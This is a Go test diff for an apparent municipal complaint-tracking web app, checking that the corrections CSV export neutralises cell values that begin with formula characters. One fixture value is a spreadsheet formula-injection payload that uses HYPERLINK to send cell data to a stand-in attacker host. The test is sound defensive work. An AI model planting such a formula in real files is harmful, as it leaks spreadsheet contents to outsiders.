@@ -2,6 +2,7 @@ package web
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"html"
@@ -329,6 +330,47 @@ func TestAnswerAndAssign(t *testing.T) {
 	res.Body.Close()
 	if res.StatusCode != http.StatusForbidden {
 		t.Fatalf("cross-site post: %d", res.StatusCode)
+	}
+}
+
+// The corrections CSV carries citizen text: a text that starts as a
+// formula (= + - @) is written as text, as in the report exports, and the
+// file still reads back as the trainer's CSV.
+func TestCorrectionsCSVGuardsFormulas(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	texts := map[string]string{
+		"401": `=HYPERLINK("https://evil.example/?d="&A1,"lihat foto jalan")`,
+		"402": "+62 812 jalan rusak",
+		"403": " @SUM(1+1) jalan",
+		"404": "jalan berlubang = bahaya",
+	}
+	h := f.client(t, "humas")
+	for id, text := range texts {
+		at := f.now.Add(-time.Hour)
+		if _, err := f.st.Ingest(ctx, store.Ingest{
+			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: text, Author: "w", Account: "humasbekasikota",
+				CreatedAt: at, CapturedAt: at, ThreadID: id},
+			Kind: tanggap.KindComplaint, OPD: "lingkungan_hidup", Status: tanggap.StatusAssigned, Queued: true}); err != nil {
+			t.Fatal(err)
+		}
+		if code, body := post(t, h, f.srv.URL+"/item/x:"+id+"/assign", url.Values{"opd": {"bina_marga_sda"}, "reason": {"jalan"}, "version": {"1"}}); code != http.StatusSeeOther {
+			t.Fatalf("assign x:%s: %d %.300s", id, code, body)
+		}
+	}
+	code, body := get(t, h, f.srv.URL+"/koreksi.csv")
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if code != 200 || err != nil || len(recs) != len(texts)+1 {
+		t.Fatalf("koreksi.csv: %d %v %d records:\n%s", code, err, len(recs), body)
+	}
+	for _, rec := range recs[1:] {
+		want := texts[strings.TrimPrefix(rec[5], "x:")]
+		if want != texts["404"] {
+			want = "'" + want
+		}
+		if rec[0] != want {
+			t.Errorf("%s: text cell %q, want %q", rec[5], rec[0], want)
+		}
 	}
 }
 
